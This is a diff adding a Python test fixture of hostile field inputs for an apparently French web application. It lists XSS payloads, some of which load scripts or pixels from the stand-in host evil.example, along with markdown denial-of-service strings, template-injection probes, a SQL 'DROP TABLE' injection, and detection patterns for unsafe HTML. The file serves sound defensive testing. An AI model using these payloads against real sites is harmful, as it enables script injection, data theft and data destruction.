@@ -1,0 +1,118 @@
+"""What hostile hands type into fields: each entry is (name, text). Every field that takes text is tried with all of them."""
+
+SCRIPTS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\x00>alert(1)</script>",
+    "<script type=module>import('//evil.example')</script>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1; ?><script>alert(1)</script>",
+]  # fmt: skip
+EVENTS = [
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<input autofocus onfocus=alert(1)>",
+    "<a href=# onclick=alert(1)>clic</a>",
+    "<p onmouseover='alert(1)'>passez</p>",
+    "<video><source onerror=alert(1)></video>",
+    "\" onmouseover=\"alert(1)",
+    "' onfocus='alert(1)' autofocus='",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<form action=//evil.example><button>Envoyer</button></form>",
+    "<iframe src=//evil.example></iframe>",
+    "<object data=//evil.example></object>",
+    "<embed src=//evil.example>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example>",
+    "<img src=//evil.example/pixel.gif>",
+    "![pixel](https://evil.example/pixel.gif)",
+]  # fmt: skip
+LINKS = [
+    "[clic](javascript:alert(1))",
+    "[clic](JaVaScRiPt:alert(1))",
+    "[clic](java\tscript:alert(1))",
+    "[clic](javascript&#58;alert(1))",
+    "[clic](&#106;avascript:alert(1))",
+    "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[clic](vbscript:msgbox(1))",
+    "[clic](file:///etc/passwd)",
+    "[clic]( javascript:alert(1))",
+    "[clic](\x01javascript:alert(1))",
+    "<javascript:alert(1)>",
+    "[clic][1]\n\n[1]: javascript:alert(1)",
+    '[clic](https://example.org"onclick="alert(1))',
+    "[clic](https://example.org 'titre\" onclick=\"alert(1)')",
+    '[a](javascript:alert(1) "x")[b](https://example.org)',
+]
+MARKDOWN = [
+    "[" * 5000,
+    "(" * 5000,
+    "*" * 5000,
+    "_" * 5001,
+    "`" * 5000,
+    "> " * 500 + "fond",
+    "- " * 500 + "fond",
+    "1. " * 500 + "fond",
+    "#" * 500 + " titre",
+    "[a](" * 2000,
+    "![" * 2000,
+    "**a " * 2000,
+    "[^1]" * 500 + "\n\n[^1]: note",
+    "| a |\n|---|\n" + "| b |\n" * 500,
+    "&amp;&lt;&gt;&quot;&#x3C;script&#x3E;",
+    "a\u202egnp.exe\u202c",
+    "\ufeff\u200b\u200d\u2060",
+    "\x00\x01\x02\x07\x1b[31m",
+    "{{ 7|add:7 }}{% debug %}{% load x %}",
+    "%(x)s %s {0} ${x} #{x}",
+    "'; DROP TABLE supporters_supporter; --",
+    "🇫🇷👩🏽‍🌾é̂̃" * 50,
+    "mot " * 5000,
+    "\n" * 5000,
+]
+PAYLOADS = [
+    (f"{kind}-{number}", text)
+    for kind, texts in (("script", SCRIPTS), ("event", EVENTS), ("link", LINKS), ("markdown", MARKDOWN))
+    for number, text in enumerate(texts, 1)
+]
+MEGABYTE = "[" * 1_000_000
+
+# What must never stand in the HTML that a browser receives from what a person typed.
+RUNNING = (
+    "<script>alert",
+    "onerror=alert(1)>",
+    "onload=alert(1)>",
+    'href="javascript',
+    'href="data:',
+    'href="vbscript',
+    'href="file:',
+)
+FOREIGN_TAGS = (
+    "script",
+    "style",
+    "iframe",
+    "object",
+    "embed",
+    "link",
+    "meta",
+    "base",
+    "form",
+    "svg",
+    "math",
+    "img",
+    "video",
+    "input",
+    "body",
+)
